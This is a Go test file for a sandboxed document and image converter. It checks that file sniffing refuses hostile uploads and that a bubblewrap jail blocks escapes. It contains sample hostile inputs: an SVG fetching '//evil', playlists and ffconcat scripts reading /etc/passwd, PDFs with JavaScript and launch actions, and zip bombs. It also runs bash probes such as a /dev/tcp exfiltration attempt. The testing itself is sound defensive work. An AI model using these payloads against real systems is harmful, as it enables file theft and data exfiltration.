package document

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

const presentation = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"

// TestSniff tells kinds from contents, and what is none from what hides as one (trust.md S-20).
func TestSniff(t *testing.T) {
	for name, c := range map[string]struct {
		file []byte
		want Kind
		err  error
	}{
		"slides":               {slides("", "One"), PDF, nil},
		"presentation":         {office(presentation, nil), PPTX, nil},
		"photo":                {photoJPEG(), JPEG, nil},
		"picture":              {photoPNG(), PNG, nil},
		"zip bomb":             {office(presentation, map[string]uint64{"ppt/a.xml": 300 << 20, "ppt/b.xml": 300 << 20}), "", ErrTooLarge},
		"pixel flood, PNG":     {hugePNG(), "", ErrTooLarge},
		"pixel flood, JPEG":    {hugeJPEG(), "", ErrTooLarge},
		"pixel flood, WebP":    {hugeWebP(), "", ErrTooLarge},
		"SVG with script":      {[]byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil")</script></svg>`), "", ErrUnknown},
		"docm":                 {office("application/vnd.ms-word.document.macroEnabled.main+xml", nil), "", ErrMacros},
		"pptm":                 {office("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", nil), "", ErrMacros},
		"pptx with a macro":    {office(presentation, map[string]uint64{"ppt/vbaProject.bin": 10}), "", ErrMacros},
		"docx":                 {office("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", nil), "", ErrUnknown},
		"a zip file":           {office("", nil), "", ErrUnknown},
		"half a zip file":      {office(presentation, nil)[:40], "", ErrUnknown},
		"m3u8 as mp4":          {[]byte("#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXTINF:1,\nhttp://127.0.0.1/x\n"), "", ErrUnknown},
		"concat script":        {[]byte("ffconcat version 1.0\nfile /etc/passwd\n"), "", ErrUnknown},
		"HTML before a PDF":    {append([]byte("<script>alert(1)</script>"), slides("", "One")...), "", ErrUnknown},
		"PDF with a zip after": {append(slides("", "One"), office(presentation, nil)...), PDF, nil},
		"nothing":              {nil, "", ErrUnknown},
	} {
		got, err := Sniff(bytes.NewReader(c.file), int64(len(c.file)))
		if !errors.Is(err, c.err) || err == nil && got != c.want {
			t.Errorf("%s: %q, %v; want %q, %v", name, got, err, c.want, c.err)
		}
	}
}

func FuzzSniff(f *testing.F) {
	for _, seed := range [][]byte{slides("", "One"), office(presentation, nil), photoPNG()[:64], hugeJPEG(), hugeWebP()} {
		f.Add(seed)
	}
	f.Fuzz(func(_ *testing.T, file []byte) { _, _ = Sniff(bytes.NewReader(file), int64(len(file))) })
}

// converter is that of this machine. Without a sandbox there is nothing to test but that it refuses.
func converter(t *testing.T) *Converter {
	t.Helper()
	c, err := Find(t.Context(), "")
	if err != nil {
		t.Skipf("nothing can be converted here: %v", err)
	}
	return c
}

// converted writes a file and converts it.
func converted(t *testing.T, c *Converter, kind Kind, file []byte) ([]Page, error) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "upload")
	if err := os.WriteFile(path, file, 0o600); err != nil {
		t.Fatal(err)
	}
	var pages []Page
	err := c.Convert(t.Context(), kind, path, t.TempDir(), func(p Page, _ int) error {
		for _, picture := range p.Pictures {
			if info, err := os.Stat(picture.Path); err != nil || info.Size() == 0 {
				t.Errorf("page %d: no picture of %d", p.Number, picture.Size)
			}
		}
		pages = append(pages, p)
		return nil
	})
	return pages, err
}

func TestPagesHavePicturesAndText(t *testing.T) {
	c := converter(t)
	lines := []string{"Ovarian reserve", "Stimulation", "Trigger", "Retrieval", "Transfer and outcome"}
	pages, err := converted(t, c, PDF, slides("", lines...))
	if err != nil || len(pages) != len(lines) {
		t.Fatalf("%d pages, %v", len(pages), err)
	}
	for i, page := range pages {
		if page.Number != i+1 || page.Text != lines[i] {
			t.Errorf("page %d says %q, want %q", page.Number, page.Text, lines[i])
		}
		for k, picture := range page.Pictures {
			if picture.Size != Sizes[k] || picture.Width != Sizes[k] || (picture.Height-picture.Width*9/16)/2 != 0 {
				t.Errorf("page %d: picture %d is %d x %d", i+1, Sizes[k], picture.Width, picture.Height)
			}
		}
	}
	for kind, file := range map[Kind][]byte{JPEG: photoJPEG(), PNG: photoPNG()} {
		pages, err = converted(t, c, kind, file)
		if err != nil || len(pages) != 1 || pages[0].Pictures[2].Width != 1600 || pages[0].Pictures[2].Height != 800 {
			t.Errorf("%s: %+v, %v", kind, pages, err)
		}
	}
	if _, err := converted(t, c, PDF, slides("", make([]string, MaxPages+1)...)); !errors.Is(err, ErrManyPages) {
		t.Errorf("301 pages: %v", err)
	}
	if _, err := converted(t, c, PDF, []byte("%PDF-1.7\nnothing")); !errors.Is(err, ErrBroken) {
		t.Errorf("half a file: %v", err)
	}
}

// TestPowerPoint needs LibreOffice, which is too big to be installed for a test.
func TestPowerPoint(t *testing.T) {
	c := converter(t)
	if c.office == "" {
		if _, err := converted(t, c, PPTX, office(presentation, nil)); err == nil {
			t.Error("a presentation is taken without LibreOffice")
		}
		t.Skip("LibreOffice is not installed: only that .pptx is refused was tested")
	}
	// What is no presentation but says it is must fail within the limits; a real one cannot be made without LibreOffice.
	if _, err := converted(t, c, PPTX, office(presentation, nil)); err == nil {
		t.Error("an empty presentation was converted")
	}
}

// trap is a listener and a file that nothing hostile may reach.
type trap struct {
	url, secret, path string
	knocks            chan net.Addr
}

func newTrap(t *testing.T) trap {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tr := trap{url: "http://" + l.Addr().String(), secret: "canary-7c1f", knocks: make(chan net.Addr, 16)}
	tr.path = filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(tr.path, []byte(tr.secret), 0o644); err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			tr.knocks <- conn.RemoteAddr()
			conn.Close()
		}
	}()
	t.Cleanup(func() {
		l.Close()
		<-ended
		if len(tr.knocks) > 0 {
			t.Errorf("%d connections came out of the sandbox", len(tr.knocks))
		}
	})
	return tr
}

// TestHostileFilesHarmNothing: the corpus of trust.md S-20, given to the programs themselves even where Sniff refuses it.
func TestHostileFilesHarmNothing(t *testing.T) {
	c, tr := converter(t), newTrap(t)
	c.jail.cpu, c.jail.wall = 3*time.Second, 10*time.Second
	playlist := fmt.Sprintf("#EXTM3U\n#EXTINF:1,\nfile://%s\n#EXTINF:1,\n%s/a.ts\n", tr.path, tr.url)
	js := fmt.Sprintf(`/OpenAction << /S /JavaScript /JS (app.launchURL\('%s'\)) >> /AA << /WC << /S /Launch /F (%s) >> >>`, tr.url, tr.path)
	for name, hostile := range map[string]struct {
		kind Kind
		file []byte
	}{
		"PDF with JS":             {PDF, slides(js, "Harmless")},
		"PDF that opens an URL":   {PDF, slides("/OpenAction << /S /URI /URI ("+tr.url+") >>", "Harmless")},
		"PDF with a file outside": {PDF, writePDF("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1 /Kids [3 0 R] >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>", "<< /Length 0 /F ("+tr.path+") >>\nstream\n\nendstream")},
		"pixel flood in a PDF":    {PDF, flood()},
		"PDF without an end":      {PDF, append([]byte("%PDF-1.7\n"), bytes.Repeat([]byte("1 0 obj << /Kids [1 0 R] >> endobj\n"), 20_000)...)},
		"polyglot":                {PDF, append(slides("", "Harmless"), office(presentation, nil)...)},
		"pixel flood, PNG":        {PNG, hugePNG()},
		"m3u8 as a picture":       {PNG, []byte(playlist)},
		"m3u8 behind a PNG":       {PNG, append(photoPNG()[:33], playlist...)},
		"concat script":           {JPEG, fmt.Appendf(nil, "ffconcat version 1.0\nfile %s\nfile %s\n", tr.path, tr.url)},
		"SVG with script":         {PNG, fmt.Appendf(nil, `<svg xmlns="http://www.w3.org/2000/svg"><image href="%s"/></svg>`, tr.url)},
	} {
		started := time.Now()
		pages, err := converted(t, c, hostile.kind, hostile.file)
		for _, page := range pages {
			if strings.Contains(page.Text, tr.secret) {
				t.Errorf("%s: read the file outside", name)
			}
		}
		t.Logf("%s: %d pages, %v, after %v", name, len(pages), err, time.Since(started).Round(time.Millisecond))
	}
}

// TestSandbox tries what a program that was taken over would: nothing of it works, and it is stopped in time.
func TestSandbox(t *testing.T) {
	c, tr := converter(t), newTrap(t)
	out := t.TempDir()
	try := func(script string) string {
		t.Helper()
		said, err := c.jail.run(t.Context(), look{file: tr.path, out: out}, "bash", "-c", script)
		return fmt.Sprint(strings.TrimSpace(string(said)), " ", err)
	}
	host, port, _ := strings.Cut(strings.TrimPrefix(tr.url, "http://"), ":")
	for script, want := range map[string]string{
		"id -u":                                  "65534 <nil>",
		"cat /in/file":                           tr.secret + " <nil>",
		"cat " + tr.path:                         " " + ErrBroken.Error(),
		"cat /etc/passwd":                        " " + ErrBroken.Error(),
		"echo x > /dev/tcp/" + host + "/" + port: " " + ErrBroken.Error(),
		"echo x > /in/file":                      " " + ErrBroken.Error(),
		"echo x > /usr/x":                        " " + ErrBroken.Error(),
		"ls /proc | grep -c '^[0-9]*$'":          "", // any small number: only its own processes
		"echo $SECRET$DATABASE_URL$HOME":         "/tmp <nil>",
		"head -c 200M /dev/zero > /out/big":      " " + ErrTooHard.Error(),
		"ulimit -v":                              "2097152 <nil>",
	} {
		if got := try(script); want != "" && got != want {
			t.Errorf("%s: %q, want %q", script, got, want)
		}
	}
	if info, err := os.Stat(filepath.Join(out, "big")); err == nil && info.Size() > fileSize {
		t.Errorf("wrote %d bytes", info.Size())
	}
	c.jail.cpu, c.jail.wall = time.Second, 30*time.Second
	if got := try("while :; do :; done"); got != " "+ErrTooHard.Error() {
		t.Errorf("a loop: %q", got)
	}
	c.jail.cpu, c.jail.wall = 30*time.Second, time.Second
	if got := try("sleep 600 & sleep 600"); got != " "+ErrTooHard.Error() {
		t.Errorf("sleeping: %q", got)
	}
	ended, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := c.jail.run(ended, look{}, "true"); !errors.Is(err, context.Canceled) {
		t.Errorf("after the end: %v", err)
	}
}

// TestWithoutSandboxNothingIsConverted, and the reason is told.
func TestWithoutSandboxNothingIsConverted(t *testing.T) {
	t.Setenv("PATH", t.TempDir())
	if _, err := Find(t.Context(), ""); !errors.Is(err, ErrUnable) || !strings.Contains(err.Error(), "bubblewrap") {
		t.Errorf("got %v", err)
	}
}
